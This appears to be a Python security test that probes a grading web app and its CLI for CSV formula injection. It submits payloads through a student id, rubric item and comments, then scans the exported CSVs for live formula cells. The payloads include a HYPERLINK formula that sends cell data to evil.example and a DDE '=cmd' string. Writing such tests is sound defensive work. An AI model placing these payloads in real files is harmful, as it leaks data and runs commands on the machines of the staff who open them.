"""Formula injection in the spreadsheets a TA or the instructor opens: the page's /review.csv and
/audit.csv, and `grader review OUT export-csv` / `audit --to`. Student ids (folder names
'=HYPERLINK(...)', '+cmd', '-2+3', '@SUM(1+1)', '\\tTAB=1+1'), answer texts starting with '=',
a TA's name, a rubric item, a comment and a regrade reason starting with '=', '+', '-', '@',
tab or CR. A cell whose first character is one of = + - @ \\t \\r (not neutralised by a leading
quote) is a win."""
import csv, io, subprocess, tempfile, os
from _lib import *

F = '=HYPERLINK("http://evil.example/?"&A1,"click")'
s = login('=cmd|" /C calc"!A0')
wp = written_part(s)
ap = autograded_part(s)
t = s.get(BASE + "/part/%d" % wp).text
post(s, "/part/%d/items" % wp, {"csrf": csrf(t), "points": "0.5", "text": "+" + F})
iid = re.findall(r'name="item" value="(\d+)"', s.get(BASE + "/answer/%d" % answers(s, wp)[0]).text)[-1]
for aid, c in zip(answers(s, wp)[:3], [F, "@SUM(1+1)", "\t=1+1"]):
    st = answer_state(s, aid)
    post(s, "/answer/%d" % aid, {"csrf": st["csrf"], "version": st["version"], "item": [iid], "comment": c})
gid = answers(s, ap)[0]
st = answer_state(s, gid)
post(s, "/answer/%d" % gid, {"csrf": st["csrf"], "version": st["version"], "points": "0", "comment": "-" + F})
sheets = {"/review.csv": s.get(BASE + "/review.csv").text, "/audit.csv": s.get(BASE + "/audit.csv").text}
d = tempfile.mkdtemp(prefix="r8rev-csv-")
for cmd, name in ((["export-csv", "--to", d + "/r.csv"], d + "/r.csv"), (["audit", "--to", d + "/a.csv"], d + "/a.csv")):
    subprocess.run(["grader", "review", OUT] + cmd, capture_output=True, text=True)
    if os.path.exists(name):
        sheets["cli " + cmd[0]] = open(name, encoding="utf-8-sig").read()
bad = []
for label, text in sheets.items():
    if not text.strip():
        bad.append("%s empty (inconclusive)" % label)
        continue
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                bad.append("%s: %r" % (label, cell[:50]))
bad = sorted(set(bad))
real = [b for b in bad if "inconclusive" not in b]
if real:
    worked("; ".join(real[:10]) + (" ... (%d cells)" % len(real) if len(real) > 10 else ""))
failed("no live formula cell in %s (%s)" % (", ".join(sheets), "; ".join(bad) or "all neutralised"))
